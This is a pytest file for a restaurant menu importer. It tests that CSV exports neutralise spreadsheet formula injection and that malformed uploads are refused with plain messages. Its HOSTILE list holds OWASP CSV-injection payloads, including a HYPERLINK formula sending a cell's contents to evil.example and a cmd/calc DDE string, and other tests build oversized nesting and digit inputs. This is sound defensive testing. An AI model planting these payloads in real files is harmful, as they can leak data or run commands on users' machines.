"""Issues 17.8 and 17.10: menu exports never carry a live spreadsheet formula, hostile files get clear words."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from tenants.menu_import import menu_import_create
from tenants.menu_io import csv_cell_escape, csv_cell_unescape, menu_parse
from tenants.models import MenuImport, MenuItem
from tenants.selectors import menu_export
from tenants.tests.factories import MenuCategoryFactory, MenuItemFactory

pytestmark = pytest.mark.django_db

HEADER = "category,category_description,name,description,price,currency,dietary_tags,allergens,available\n"
# OWASP's CSV-injection starters, and look-alikes an attacker uses to hide them.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # already quoted once: must survive the round trip as written
    "''+x",
]


def _export_cells(restaurant) -> list[list[str]]:
    data = menu_export(restaurant=restaurant, file_format="csv")
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


@pytest.mark.parametrize("text", HOSTILE)
def test_an_exported_cell_never_starts_like_a_formula(world_a, text):
    category = MenuCategoryFactory(restaurant=world_a.restaurant, name=text.strip() or "x")
    MenuItemFactory(category=category, name="Soup", description=text)

    rows = _export_cells(world_a.restaurant)

    for row in rows[1:]:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r", row


@pytest.mark.parametrize("text", [*HOSTILE, "Plain soup", "'quoted' soup", "-", "Crème brûlée = bliss"])
def test_escaped_cells_import_back_to_exactly_what_was_written(text):
    assert csv_cell_unescape(csv_cell_escape(text)) == text


def test_normal_values_are_exported_unchanged(world_a):
    category = MenuCategoryFactory(restaurant=world_a.restaurant, name="Mains")
    MenuItemFactory(category=category, name="Soup of the day", description="With bread", price=Decimal("5.5"))

    row = next(r for r in _export_cells(world_a.restaurant)[1:] if r[2] == "Soup of the day")

    assert row[:5] == ["Mains", "", "Soup of the day", "With bread", "5.50"]


def test_a_hostile_menu_round_trips_losslessly_through_export_and_import(world_a):
    category = MenuCategoryFactory(restaurant=world_a.restaurant, name="+Specials")
    for i, text in enumerate(HOSTILE):
        MenuItemFactory(category=category, name=f"Dish {i}", description=text.strip())
    fields = ("category__name", "name", "description")
    before = sorted(MenuItem.objects.filter(restaurant=world_a.restaurant).values_list(*fields))

    data = menu_export(restaurant=world_a.restaurant, file_format="csv")
    record = menu_import_create(restaurant=world_a.restaurant, data=data, file_format="csv")

    assert record.status == MenuImport.Status.SUCCEEDED, record.problems
    after = sorted(MenuItem.objects.filter(restaurant=world_a.restaurant).values_list(*fields))
    assert after == before
    assert ("+Specials", "Dish 0", HOSTILE[0]) in after


def _refused(restaurant, data: bytes, fmt: str) -> list[str]:
    record = menu_import_create(restaurant=restaurant, data=data, file_format=fmt, filename=f"evil.{fmt}")
    assert record.status == MenuImport.Status.FAILED
    return [p["message"] for p in record.problems]


def test_a_100k_deep_json_file_is_refused_in_words(world_a):
    messages = _refused(world_a.restaurant, b"[" * 100_000 + b"]" * 100_000, "json")
    assert any("nested" in m and "levels deep" in m for m in messages)


def test_a_nul_byte_in_a_csv_cell_is_refused_in_words(world_a):
    messages = _refused(world_a.restaurant, (HEADER + "Mains,,So\x00up,,5.00,,,,\n").encode(), "csv")
    assert messages == [
        "The file contains a NUL character (line 2), so it is not plain text. Export the menu again as "
        "“CSV UTF-8” or JSON."
    ]


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_a_100000_digit_price_is_refused_in_words(world_a, fmt):
    digits = "9" * 100_000
    if fmt == "csv":
        data = (HEADER + f"Mains,,Soup,,{digits},,,,\n").encode()
    else:
        data = (
            '{"categories": [{"name": "Mains", "items": [{"name": "Soup", "price": ' + digits + "}]}]}"
        ).encode()

    messages = _refused(world_a.restaurant, data, fmt)

    assert len(messages) == 1 and len(messages[0]) < 300
    assert "price" in messages[0] or "cannot be read" in messages[0]


def test_the_parser_itself_never_raises_anything_but_a_menu_error():
    from tenants.menu_io import MenuFileError

    for data, fmt in [
        (b"{" * 50 + b"}" * 50, "json"),
        (b'{"categories": [' + b"1" * 5000 + b"]}", "json"),
        (HEADER.encode() + b"a,,b,,1e999999,,,,\n", "csv"),
    ]:
        with pytest.raises(MenuFileError):
            menu_parse(data, fmt)


@pytest.mark.parametrize(
    ("filename", "data", "words"),
    [
        ("deep.json", b"[" * 100_000 + b"]" * 100_000, "levels deep"),
        ("nul.csv", (HEADER + "Mains,,So\x00up,,5.00,,,,\n").encode(), "NUL character"),
        (
            "digits.json",
            b'{"categories": [{"name": "M", "items": [{"name": "S", "price": ' + b"9" * 100_000 + b"}]}]}",
            "cannot be read",
        ),
    ],
    ids=["100k-deep JSON", "NUL in a CSV cell", "100,000-digit number"],
)
def test_an_owner_uploading_a_hostile_file_reads_why_and_the_menu_is_untouched(
    world_a, filename, data, words
):
    from django.core.files.uploadedfile import SimpleUploadedFile

    before = list(
        MenuItem.objects.filter(restaurant=world_a.restaurant).values_list("pk", "name", "updated_at")
    )
    client = world_a.client_for(world_a.owner)

    response = client.post(
        f"/admin/tenants/restaurant/{world_a.restaurant.pk}/menu/import/",
        {"file": SimpleUploadedFile(filename, data), "mode": "replace"},
    )

    assert response.status_code == 200
    assert words in response.content.decode()
    after = list(
        MenuItem.objects.filter(restaurant=world_a.restaurant).values_list("pk", "name", "updated_at")
    )
    assert after == before
